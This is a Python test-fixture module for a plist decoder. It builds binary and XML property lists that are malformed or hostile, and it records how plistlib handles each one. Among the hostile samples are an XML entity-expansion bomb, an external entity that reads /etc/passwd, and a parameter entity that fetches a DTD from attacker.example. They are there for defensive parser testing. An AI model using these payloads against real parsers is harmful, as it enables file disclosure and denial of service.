"""Property lists for the plist codec's tests and benchmark: hostile inputs, inputs plistlib
accepts although they are malformed, and a tiny bplist00 builder to make them with.

Every binary sample is built byte by byte with ``build_bplist`` (Apple's CFBinaryPList layout:
the ``bplist00`` magic, the objects, an offset table, and a 32-byte trailer), never by an
encoder under test, so a sample can say exactly what is wrong with it.
"""

from __future__ import annotations

import struct
from collections.abc import Sequence

# The 200-app report the benchmark and the tests share is written by the Apple samples.
from tests.apple_samples import installed_application_list_report

__all__ = [
    "APPLE_DOCTYPE",
    "XML_DECL",
    "b_array",
    "b_ascii",
    "b_bool",
    "b_data",
    "b_date",
    "b_dict",
    "b_int",
    "b_real",
    "b_uid",
    "b_utf16",
    "build_bplist",
    "hostile_plists",
    "installed_application_list_report",
    "shared_reference_bplist",
    "wrong_but_plistlib_accepts",
    "xml_plist",
]

Sample = tuple[str, bytes]

MAGIC = b"bplist00"
TRAILER = struct.Struct(">5xBBBQQQ")  # unused, sort version, offset size, ref size, 3 x u64

# --- a bplist00 builder -------------------------------------------------------------------
#
# Object markers (high nibble: type; low nibble: size, or 0xF for "an int object follows"):
#   0x08 false, 0x09 true, 0x1n int of 2**n bytes, 0x2n real of 2**n bytes, 0x33 date,
#   0x4n data, 0x5n ASCII string, 0x6n UTF-16BE string (n code units), 0x8n UID of n+1 bytes,
#   0xAn array of n refs, 0xDn dict of n key refs then n value refs.


def _count(high: int, count: int) -> bytes:
    """A marker with its count: in the low nibble below 15, else 0xF and an int object."""
    if count < 15:
        return bytes([high | count])
    return bytes([high | 0xF]) + b_int(count)


def b_int(value: int) -> bytes:
    """An int object the way CoreFoundation writes one (1, 2, 4 bytes unsigned, 8 signed,
    16 bytes for the unsigned 64-bit values above 2**63 - 1)."""
    if 0 <= value < 1 << 8:
        return b"\x10" + value.to_bytes(1, "big")
    if 0 <= value < 1 << 16:
        return b"\x11" + value.to_bytes(2, "big")
    if 0 <= value < 1 << 32:
        return b"\x12" + value.to_bytes(4, "big")
    if -(1 << 63) <= value < 1 << 63:
        return b"\x13" + value.to_bytes(8, "big", signed=True)
    return b"\x14" + value.to_bytes(16, "big", signed=True)


def b_bool(value: bool) -> bytes:
    return b"\x09" if value else b"\x08"


def b_real(value: float, *, width: int = 8) -> bytes:
    if width == 4:
        return b"\x22" + struct.pack(">f", value)
    return b"\x23" + struct.pack(">d", value)


def b_date(seconds_since_2001: float) -> bytes:
    return b"\x33" + struct.pack(">d", seconds_since_2001)


def b_data(value: bytes) -> bytes:
    return _count(0x40, len(value)) + value


def b_ascii(value: str) -> bytes:
    return _count(0x50, len(value)) + value.encode("ascii")


def b_utf16(value: str) -> bytes:
    encoded = value.encode("utf-16-be")
    return _count(0x60, len(encoded) // 2) + encoded


def b_uid(value: int, *, size: int | None = None) -> bytes:
    size = size or (1 if value < 1 << 8 else 2 if value < 1 << 16 else 4 if value < 1 << 32 else 8)
    return bytes([0x80 | (size - 1)]) + value.to_bytes(size, "big")


def _refs(refs: Sequence[int], ref_size: int) -> bytes:
    return b"".join(ref.to_bytes(ref_size, "big") for ref in refs)


def b_array(refs: Sequence[int], ref_size: int = 1) -> bytes:
    return _count(0xA0, len(refs)) + _refs(refs, ref_size)


def b_dict(keys: Sequence[int], values: Sequence[int], ref_size: int = 1) -> bytes:
    assert len(keys) == len(values)
    return _count(0xD0, len(keys)) + _refs(keys, ref_size) + _refs(values, ref_size)


def _width(value: int) -> int:
    return 1 if value < 1 << 8 else 2 if value < 1 << 16 else 4 if value < 1 << 32 else 8


def build_bplist(
    objects: Sequence[bytes],
    *,
    top: int = 0,
    ref_size: int | None = None,
    offset_size: int | None = None,
    num_objects: int | None = None,
    offsets: Sequence[int] | None = None,
    table_offset: int | None = None,
) -> bytes:
    """``bplist00``, the objects in order, the offset table, then the 32-byte trailer.

    Each override writes what it says into the file instead of the true value: ``offsets``
    replaces the offset table's entries, ``offset_size`` the width they are written in (0 and
    9 included), ``num_objects``, ``top`` and ``table_offset`` the trailer's fields. Containers
    must have been built with the same ``ref_size`` (default: 1 byte up to 255 objects).
    """
    body = bytearray(MAGIC)
    real_offsets = []
    for obj in objects:
        real_offsets.append(len(body))
        body += obj
    entries = list(real_offsets if offsets is None else offsets)
    table_at = len(body)
    width = _width(table_at) if offset_size is None else offset_size
    for entry in entries:
        body += (entry % (1 << (8 * width))).to_bytes(width, "big") if width else b""
    if ref_size is None:
        ref_size = _width(max(len(objects) - 1, 0))
    body += TRAILER.pack(
        0,
        width,
        ref_size,
        len(objects) if num_objects is None else num_objects,
        top,
        table_at if table_offset is None else table_offset,
    )
    return bytes(body)


def shared_reference_bplist(levels: int, *, ref_size: int = 1) -> bytes:
    """``levels`` arrays, each holding two references to the next, then the int 7.

    Only ``levels + 1`` objects, but reading it as a tree visits ``2**(levels + 1) - 1``
    values (2**levels leaves).
    """
    objects = [b_array([i + 1, i + 1], ref_size) for i in range(levels)] + [b_int(7)]
    return build_bplist(objects, ref_size=ref_size)


# {"a": [1, "x"]} as 0: the dict, 1: "a", 2: the array, 3: 1, 4: "x".
_SMALL_OBJECTS = (b_dict([1], [2]), b_ascii("a"), b_array([3, 4]), b_int(1), b_ascii("x"))


def _offsets(objects: Sequence[bytes]) -> list[int]:
    """Where each object starts when they follow the magic in order."""
    out, at = [], len(MAGIC)
    for obj in objects:
        out.append(at)
        at += len(obj)
    return out


def _valid_small() -> bytes:
    """``{"a": [1, "x"]}``: a well-formed file that the trailer samples cut and bend."""
    return build_bplist(_SMALL_OBJECTS)


# --- XML helpers --------------------------------------------------------------------------

XML_DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'
APPLE_DOCTYPE = (
    b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
    b'"http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n'
)


def xml_plist(body: bytes | str, *, doctype: bytes = APPLE_DOCTYPE) -> bytes:
    """An XML plist document around ``body``, declared the way Apple's tools write one."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    return XML_DECL + doctype + b'<plist version="1.0">\n' + body + b"\n</plist>\n"


# --- hostile input ------------------------------------------------------------------------


def _billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    doctype = f"<!DOCTYPE plist [\n{chr(10).join(entities)}\n]>\n".encode()
    return xml_plist("<string>&lol9;</string>", doctype=doctype)


def _deep_xml(depth: int) -> bytes:
    return xml_plist(b"<array>" * depth + b"</array>" * depth)


def _deep_bplist(depth: int) -> bytes:
    """``depth`` arrays, each holding only the next one; the last is empty."""
    ref_size = _width(depth)
    objects = [b_array([i + 1], ref_size) for i in range(depth - 1)] + [b_array([], ref_size)]
    return build_bplist(objects, ref_size=ref_size)


def _hostile_dtds() -> list[Sample]:
    # plistlib refuses any entity declaration; it accepts (and expat reads) an internal subset
    # that declares none.
    return [
        ("xml_billion_laughs", _billion_laughs()),
        (
            "xml_external_entity",
            xml_plist(
                "<string>&xxe;</string>",
                doctype=b'<!DOCTYPE plist [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
            ),
        ),
        (
            "xml_parameter_entity",
            xml_plist(
                "<dict/>",
                doctype=b"<!DOCTYPE plist [<!ENTITY % remote SYSTEM "
                b'"http://attacker.example/evil.dtd"> %remote;]>\n',
            ),
        ),
        (
            "xml_internal_subset_without_entities",
            xml_plist(
                "<dict/>",
                doctype=b'<!DOCTYPE plist [<!ELEMENT plist ANY><!ATTLIST plist v CDATA "1">]>\n',
            ),
        ),
        ("xml_undefined_entity", xml_plist("<string>&nope;</string>")),
    ]


def _hostile_references() -> list[Sample]:
    # plistlib accepts the shared references (it reads each object once and shares the list)
    # and the cycles (it returns a list that contains itself).
    return [
        ("binary_shared_refs_2_to_the_40", shared_reference_bplist(40)),
        ("binary_array_contains_itself", build_bplist([b_array([0])])),
        ("binary_two_array_cycle", build_bplist([b_array([1]), b_array([0])])),
        ("binary_dict_value_cycle", build_bplist([b_dict([1], [0]), b_ascii("k")])),
        ("binary_dict_key_ref_out_of_range", build_bplist([b_dict([7], [1]), b_int(1)])),
        ("binary_array_ref_out_of_range", build_bplist([b_array([1, 200]), b_int(1)])),
        ("binary_top_object_out_of_range", build_bplist([b_int(1)], top=5)),
    ]


def _hostile_tables() -> list[Sample]:
    """The offset table and the trailer of ``{"a": [1, "x"]}``, bent or cut."""
    valid = _valid_small()
    objects = _SMALL_OBJECTS
    good = _offsets(objects)
    end = good[-1] + len(objects[-1])  # the offset table: 5 one-byte entries, then the trailer
    return [
        (
            "binary_offset_past_the_end",
            build_bplist(objects, offsets=[*good[:4], 1_000_000], offset_size=4),
        ),
        ("binary_offset_into_the_trailer", build_bplist(objects, offsets=[*good[:4], end + 9])),
        ("binary_table_offset_past_the_end", build_bplist(objects, table_offset=1 << 40)),
        ("binary_table_offset_into_the_trailer", build_bplist(objects, table_offset=end + 6)),
        ("binary_2_to_the_60_objects", build_bplist(objects, num_objects=1 << 60)),
        ("binary_offset_size_0", build_bplist(objects, offset_size=0)),
        # plistlib accepts offset size 9 when the table is written that wide.
        ("binary_offset_size_9", build_bplist(objects, offset_size=9)),
        ("binary_ref_size_0", build_bplist([b"\xa1", b_int(1)], ref_size=0)),
        ("binary_trailer_only_10_bytes", MAGIC + bytes(10)),
        ("binary_magic_only", MAGIC),
        ("binary_cut_mid_trailer", valid[:-16]),
        ("binary_cut_mid_objects", valid[:12]),
        ("binary_zero_objects", build_bplist([])),
    ]


def _hostile_objects() -> list[Sample]:
    """Objects that claim more than the file holds, or are not objects at all."""
    big = 1 << 40
    return [
        ("binary_ascii_string_claims_2_to_the_40", build_bplist([b"\x5f" + b_int(big) + b"abc"])),
        # 2**63 UTF-16 code units are 2**64 bytes: wraps to 0 in unchecked 64-bit arithmetic.
        (
            "binary_utf16_string_claims_2_to_the_63",
            build_bplist([b"\x6f\x13" + (1 << 63).to_bytes(8, "big") + b"\x00a"]),
        ),
        ("binary_data_claims_2_to_the_40", build_bplist([b"\x4f" + b_int(big) + b"abc"])),
        # 2**61 refs of 8 bytes are 2**64 bytes.
        (
            "binary_array_claims_2_to_the_61_refs",
            build_bplist([b"\xaf" + b_int(1 << 61) + bytes(8), b_int(1)], ref_size=8),
        ),
        (
            "binary_dict_claims_2_to_the_40_pairs",
            build_bplist([b"\xdf" + b_int(big) + b"\x01\x01", b_int(1)]),
        ),
        # plistlib accepts these three: it reads 2**n bytes for any n, even past the object.
        ("binary_int_size_nibble_5", build_bplist([b"\x15" + bytes(31) + b"\x01"])),
        ("binary_int_size_nibble_f", build_bplist([b"\x1f" + bytes(8)])),
        ("binary_int_truncated", build_bplist([b_array([1]), b"\x13\x00\x01"])),
        ("binary_real_size_1", build_bplist([b"\x21\x00\x00"])),
        ("binary_date_is_nan", build_bplist([b_date(float("nan"))])),
        ("binary_date_year_300000", build_bplist([b_date(1e13)])),
        ("binary_unknown_marker_0x70", build_bplist([b"\x70"])),
        ("binary_ascii_string_not_ascii", build_bplist([b"\x54caf\xe9"])),
        ("binary_utf16_lone_surrogate", build_bplist([b"\x61\xd8\x00"])),
        ("binary_array_as_dict_key", build_bplist([b_dict([1], [1]), b_array([])])),
    ]


def _hostile_xml_values() -> list[Sample]:
    # plistlib skips elements it does not know, so it accepts the first as [].
    return [
        ("xml_unknown_element", xml_plist("<array><foo>1</foo></array>")),
        ("xml_integer_garbage", xml_plist("<integer>12abc</integer>")),
        ("xml_integer_empty", xml_plist("<integer></integer>")),
        ("xml_real_garbage", xml_plist("<real>1.5.5</real>")),
        ("xml_data_bad_base64", xml_plist("<data>QUJD\nR</data>")),
        ("xml_date_invalid", xml_plist("<date>2024-13-45T25:61:61Z</date>")),
        ("xml_date_not_a_date", xml_plist("<date>yesterday</date>")),
        ("xml_dict_key_without_value", xml_plist("<dict><key>a</key></dict>")),
        ("xml_dict_value_without_key", xml_plist("<dict><string>a</string></dict>")),
        ("xml_dict_two_keys_in_a_row", xml_plist("<dict><key>a</key><key>b</key></dict>")),
        ("xml_key_outside_dict", xml_plist("<array><key>a</key></array>")),
        ("xml_invalid_utf8", xml_plist(b"<string>caf\xc3 \xff\xfe</string>")),
        ("xml_mismatched_tags", xml_plist("<array><string>a</array></string>")),
        ("xml_truncated", xml_plist("<dict><key>a</key><string>b</string></dict>")[:-20]),
        ("xml_control_character", xml_plist("<string>a\x01b</string>")),
        # Not well-formed outside the values: XML 1.0 forbids these characters everywhere, a
        # bare & in an attribute, and an XML declaration without its version.
        ("xml_nul_in_comment", xml_plist("<!-- \x00 --><true/>")),
        ("xml_control_character_in_attribute", xml_plist("<array a='\x01'/>")),
        ("xml_nul_in_processing_instruction", b"<?\x00ml version='1.0'?><plist><true/></plist>"),
        ("xml_bare_ampersand_in_attribute", b'<plist version="1&"><true/></plist>'),
        ("xml_declaration_without_version", b"<?xml?><plist><true/></plist>"),
        ("xml_declaration_not_first", b"\n" + XML_DECL + b"<plist><true/></plist>"),
        ("xml_doctype_after_the_root", b"<plist><true/></plist><!DOCTYPE plist>"),
        ("xml_two_doctypes", XML_DECL + APPLE_DOCTYPE * 2 + b"<plist><true/></plist>"),
        ("xml_attribute_without_value", b'<plist ve sion="1.0"><true/></plist>'),
        ("xml_form_feed_between_elements", xml_plist("<array>\x0c<true/></array>")),
        # plistlib fails on this one with TypeError.
        ("xml_date_cut_short_then_more", xml_plist("<date>2024-01Z02T03:04:05Z</date>")),
        ("empty_input", b""),
        ("not_a_plist", b"hello, world"),
    ]


def hostile_plists() -> list[Sample]:
    """Inputs ``mdmgate.plist.loads`` must refuse with ``PlistDecodeError``, quickly and without
    large allocations. The comments say what plistlib 3.11 does where it does not refuse.

    Depth: plistlib's XML reader keeps its own stack and accepts the 100,000-deep XML arrays;
    its binary reader recurses and fails with RecursionError.
    """
    return [
        *_hostile_dtds(),
        *_hostile_references(),
        *_hostile_tables(),
        *_hostile_objects(),
        ("xml_100000_deep_arrays", _deep_xml(100_000)),
        ("binary_100000_deep_arrays", _deep_bplist(100_000)),
        *_hostile_xml_values(),
    ]


# --- accepted by plistlib, but malformed --------------------------------------------------


def wrong_but_plistlib_accepts() -> list[tuple[str, bytes, str]]:
    """Inputs plistlib 3.11 decodes although they are not valid property lists, with what
    plistlib makes of each. ``mdmgate.plist.loads`` refuses all of them.

    Some are also in ``hostile_plists()``. Not listed, because they are valid if unusual:
    a 100,000-deep XML array (plistlib accepts it; mdmgate refuses it by its depth limit), a
    binary plist whose shared references expand to 2**40 values (plistlib shares the lists;
    mdmgate refuses it by its node limit), duplicate dict keys (both keep the last value),
    and a binary null object, which both read as ``None`` (docs/plist.md).
    """
    objects = _SMALL_OBJECTS
    return [
        # XML
        (
            "xml_internal_subset_without_entities",
            xml_plist("<dict/>", doctype=b"<!DOCTYPE plist [<!ELEMENT plist ANY>]>\n"),
            "{}: expat reads the DTD; only entity declarations are refused",
        ),
        (
            "xml_unknown_element",
            xml_plist("<array><foo>1</foo><string>a</string></array>"),
            "['a']: unknown elements are skipped",
        ),
        (
            "xml_element_inside_string",
            xml_plist("<string>ab<b>c</b>d</string>"),
            "'cd': an unknown element inside a string drops the text before it",
        ),
        ("xml_text_inside_true", xml_plist("<true>no</true>"), "True: the text is ignored"),
        (
            "xml_text_between_elements",
            xml_plist("<array>a<string>b</string>c</array>"),
            "['b']: text outside a value element is dropped",
        ),
        (
            "xml_two_root_values",
            xml_plist("<string>a</string><string>b</string>"),
            "'b': each value at the top replaces the one before",
        ),
        (
            "xml_empty_key_without_value",
            xml_plist("<dict><key></key></dict>"),
            "{}: the missing-value check tests the key for truth, and '' is false",
        ),
        (
            "xml_empty_key_then_key",
            xml_plist("<dict><key></key><key>b</key><integer>1</integer></dict>"),
            "{'b': 1}: the same check lets a second key replace an empty one",
        ),
        (
            "xml_integer_with_underscores",
            xml_plist("<integer>1_000</integer>"),
            "1000: Python's int() syntax",
        ),
        (
            "xml_integer_arabic_indic_digits",
            xml_plist("<integer>\u0661\u0662</integer>"),
            "12: int() takes any Unicode decimal digit",
        ),
        (
            "xml_integer_2_to_the_64",
            xml_plist("<integer>18446744073709551616</integer>"),
            "2**64: a value plistlib.dumps itself refuses with OverflowError",
        ),
        (
            "xml_integer_below_minus_2_to_the_63",
            xml_plist("<integer>-9223372036854775809</integer>"),
            "-2**63 - 1: as above",
        ),
        ("xml_real_with_underscores", xml_plist("<real>1_5.0</real>"), "15.0: float() syntax"),
        (
            "xml_data_with_junk_characters",
            xml_plist("<data>QU*JD!</data>"),
            "b'ABC': binascii skips characters outside the base64 alphabet",
        ),
        (
            "xml_data_after_the_padding",
            xml_plist("<data>QQ==QUJD</data>"),
            "b'A': binascii stops at the padding that ends a group and drops the rest",
        ),
        (
            "xml_date_trailing_junk",
            xml_plist("<date>2024-01-02T03:04:05Zjunk</date>"),
            "2024-01-02 03:04:05: the date pattern matches a prefix",
        ),
        (
            "xml_undefined_entity",
            xml_plist("<string>a&nope;b</string>"),
            "'ab': with an external DTD named, expat skips entities it does not know",
        ),
        (
            "xml_empty_plist",
            xml_plist(""),
            "None: a value outside the plist types",
        ),
        # binary
        (
            "binary_fill_byte",
            build_bplist([b_array([1]), b"\x0f"]),
            "[b'']: the fill byte is read as empty data",
        ),
        (
            "binary_int_size_nibble_5",
            build_bplist([b"\x15" + b"\x01" + bytes(31)]),
            "2**248: a 32-byte integer",
        ),
        (
            "binary_int_16_bytes_beyond_2_to_the_64",
            build_bplist([b"\x14" + (1 << 100).to_bytes(16, "big")]),
            "2**100",
        ),
        (
            "binary_int_reads_past_its_object",
            build_bplist([b_array([1]), b"\x13\x00\x01"]),
            "an int whose 8 bytes run into the offset table",
        ),
        (
            "binary_non_string_dict_key",
            build_bplist([b_dict([1], [2]), b_int(1), b_ascii("v")]),
            "{1: 'v'}: keys are not checked",
        ),
        (
            "binary_data_dict_key",
            build_bplist([b_dict([1], [2]), b_data(b"k"), b_ascii("v")]),
            "{b'k': 'v'}",
        ),
        ("binary_array_contains_itself", build_bplist([b_array([0])]), "a list inside itself"),
        (
            "binary_offset_into_the_trailer",
            dict(_hostile_tables())["binary_offset_into_the_trailer"],
            "{'a': [1, None]}: the trailer's first byte, 0x00, is read as null",
        ),
        (
            "binary_offset_size_9",
            build_bplist(objects, offset_size=9),
            "{'a': [1, 'x']}: CoreFoundation allows offset sizes 1 to 8",
        ),
        (
            "binary_offset_into_the_header",
            build_bplist([b_array([1]), b_int(1)], offsets=[0, 9]),
            "'\\u706c\\u6973': the 'b' (0x62) of the magic is read as the marker of a UTF-16 "
            "string of 2 units, 'pl' and 'is'",
        ),
    ]
